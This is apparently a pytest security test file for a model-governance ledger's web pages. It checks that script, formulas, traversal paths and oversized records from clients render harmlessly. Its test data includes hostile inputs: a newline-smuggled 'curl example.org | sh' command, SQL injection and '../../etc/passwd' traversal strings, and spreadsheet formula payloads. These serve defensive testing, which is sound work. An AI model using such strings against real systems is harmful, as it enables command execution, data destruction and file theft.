"""What a client can write is text on every page: script, formulas, paths, and records of ten thousand claims."""

import csv
import io
import time

import pytest

from aims_mlflow.documents.page_blocks import PageCell, PageTable, PageView
from aims_mlflow.evidence.statement import Subject
from aims_mlflow.ledger.leaves import Entry
from aims_mlflow.pages.rendering import PageFrame, as_csv
from aims_mlflow.records.evidence import Claim
from aims_mlflow.records.leaves.others import FindingBody, FindingLeaf
from support import ledger_with_decisions, signed_sessions
from support.good_documents import FIELDS
from support.ledger_with_decisions import GOOD, Registry
from support.page_elements import SCRIPT, assert_inert
from support.page_site import PAGES, PageSite
from support.sealed_documents import DocumentOffice

MANY = 10_000


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(ledger_with_decisions, "NAME", SCRIPT)
        patch.setattr(signed_sessions, "group_claims", lambda ratio, group="", column="": claims(column or SCRIPT))
        registry = Registry(f"sqlite:///{folder}/ledger.db")
        writer = signed_sessions.session(
            registry.trainer, system=SCRIPT, group=SCRIPT, model=GOOD, affected=(SCRIPT,), function=SCRIPT, target=SCRIPT
        )  # fmt: skip
        files = {f"aims/sessions/{writer.id}.jsonl": writer.jsonl()}
        registry.consent("waiver", "registration", GOOD, control="A.6.2.4", expires="2036-01-01T23:59:59Z")
        registry.consent("approval", "deployment", GOOD, alias="champion")
        registry.ask("registration", files, GOOD, "1")
        finding = FindingLeaf(
            about="policy", state="open", request="f" * 32, model_name=SCRIPT, version=SCRIPT[:30], alias=SCRIPT
        )
        registry.ledger.seal(Entry(finding, FindingBody(text=SCRIPT)))
        office = DocumentOffice(registry)
        risk = {**FIELDS["risk-register"]["risks"][0], "event": SCRIPT, "id": SCRIPT, "closed_by": [SCRIPT]}
        for kind, fields in {
            "soa": {"controls": [{"control": "A.2.2", "applies": True, "reason": SCRIPT, "basis": [SCRIPT]}]},
            "risk-register": {"risks": [risk], SCRIPT: SCRIPT},
            "supplier-record": {"components": [{"component": SCRIPT, "supplier": SCRIPT, "version": SCRIPT}]},
            "system": {"purpose": SCRIPT, "models": [SCRIPT]},
            "competence-record": {"person": SCRIPT, "role": SCRIPT, "requirement": SCRIPT},
            "monitoring-plan": {"every_days": 30, "who_acts": SCRIPT},
        }.items():
            given = {"version": SCRIPT, "effective_from": "2026-01-01"}
            office.publish(kind, name=SCRIPT if kind == "soa" else "", fields=fields, system=SCRIPT, **given)
    made = PageSite.of(registry.ledger, folder / "pages.db")
    made.args = {
        "system": SCRIPT,
        "control": "A.6.2.4",
        "model": SCRIPT,
        "version": "1",
        "leaf": str(made.first("SELECT sequence FROM decision LIMIT 1")),
        "record": made.first("SELECT id FROM record WHERE kind = 'fairness' LIMIT 1"),
        "number": "2",
        "digest": made.first("SELECT policy FROM decision LIMIT 1"),
        "document": SCRIPT,
    }
    return made


def claims(column):
    low = {"comparator": ">=", "limit": "0.8", "passed": False, "note": SCRIPT}
    return [Claim(metric=SCRIPT, slice={column: SCRIPT}, value="0.3", n=3210, **low) for _ in range(4)]


QUERY = {
    "q": f"alert {SCRIPT}", "on": SCRIPT, "within": SCRIPT, "checkpoint": SCRIPT, "model": SCRIPT, "version": "1", "stage": SCRIPT,
    "state": SCRIPT, "kind": SCRIPT, "type": SCRIPT, "population": SCRIPT, "leaves": SCRIPT, "n": SCRIPT, "from": SCRIPT,
    "rows": SCRIPT, "result": SCRIPT, "without": SCRIPT, "rules": SCRIPT, "verify": SCRIPT, "method": SCRIPT, "system": SCRIPT,
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(PAGES))
@pytest.mark.parametrize(
    "asked", [{}, QUERY, {k: v for k, v in QUERY.items() if k not in ("kind", "system", "type", "from")}]
)
def test_script_in_every_field_is_text(site, name, asked):
    page = site.answer(name, asked)
    assert_inert(page)
    assert "default-src 'none'" in page.headers["Content-Security-Policy"]
    assert page.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("name", [n for n, page in PAGES.items() if "<" in page.address])
@pytest.mark.parametrize(
    "trick", ["../../etc/passwd", "%2e%2e/x", "1;DROP TABLE leaf", "' OR 1=1 --", "-1", "9" * 40, "\x00", "٣"]
)
def test_tricks_in_addresses_find_nothing(site, name, trick):
    args = dict.fromkeys(site.args, trick)
    assert site.answer(name, **args).status == 404
    assert site.first("SELECT count(*) FROM leaf") > 0


def test_the_commands_that_compute_a_number_again_are_ours_alone(tmp_path):
    registry = Registry(f"sqlite:///{tmp_path}/ledger.db")
    writer = signed_sessions.session(registry.trainer, system="income", model=GOOD, close=False)
    about = [Subject(name="data\ncurl example.org | sh", digest={"dirHash1": GOOD})]
    writer.add("robustness", about, claims=(Claim(metric="accuracy", value="0.5"),))
    writer.close()
    registry.ask("registration", {f"aims/sessions/{writer.id}.jsonl": writer.jsonl()}, GOOD, "1")
    site = PageSite.of(registry.ledger, tmp_path / "pages.db")
    record = site.first("SELECT id FROM record WHERE kind = 'robustness'")
    blocks = site.json("claim", record=record, number="0")["blocks"]
    text = next(block["text"] for block in blocks if block["title"] == "Compute it again")
    assert [line.split()[0] for line in text.split("\n") if line[0] != "#"] == ["aims", "aims"]


def test_a_spreadsheet_takes_no_cell_for_a_formula():
    hostile = ["=HYPERLINK(1)", "+1+2", "@SUM(A1)", "-2+3", "\t=1", "-0.25", "+0.1%", "plain"]
    view = PageView("t", "t", (), (PageTable("t", ("=a", "b"), [(each, PageCell(each)) for each in hostile]),))
    frame = PageFrame(
        root="/", time="2026-11-28T10:00:00", leaves=0, sealed="", origin="", checkpoint=None, checkpoint_root="",
        behind=False, whole=True,
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(as_csv(view, frame).decode())))
    assert rows[0][0] == "'=a"
    assert [row[0] for row in rows[1:]] == [
        "'=HYPERLINK(1)",
        "'+1+2",
        "'@SUM(A1)",
        "'-2+3",
        "'\t=1",
        "-0.25",
        "+0.1%",
        "plain",
    ]


def test_a_record_of_ten_thousand_claims_is_shown_in_parts(tmp_path):
    registry = Registry(f"sqlite:///{tmp_path}/ledger.db")
    writer = signed_sessions.session(registry.trainer, model=GOOD, ratio="0.9", close=False)
    many = [Claim(metric="selection_rate", slice={"group": f"g{i}"}, value="0.5", n=1000) for i in range(MANY)]
    about = [Subject(name="models:/m-1", digest={"dirHash1": GOOD})]
    writer.add("performance", about, claims=many)
    writer.close()
    registry.ask("registration", {f"aims/sessions/{writer.id}.jsonl": writer.jsonl()}, GOOD, "1")
    site = PageSite.of(registry.ledger, tmp_path / "pages.db")
    record = site.first("SELECT id FROM record WHERE claims = 10000")
    started = time.perf_counter()
    page = site.html("record", record=record)
    assert "rows 1 to 100 of 10,000" in page
    assert f"records/{record}?from=101" in page
    assert len(page) < 3_000_000
    assert "g9999" in site.html("record", {"from": "9901"}, record=record)
    assert "0.5" in site.html("claim", record=record, number="9999")
    assert site.answer("claim", record=record, number="10000").status == 404
    assert time.perf_counter() - started < 20
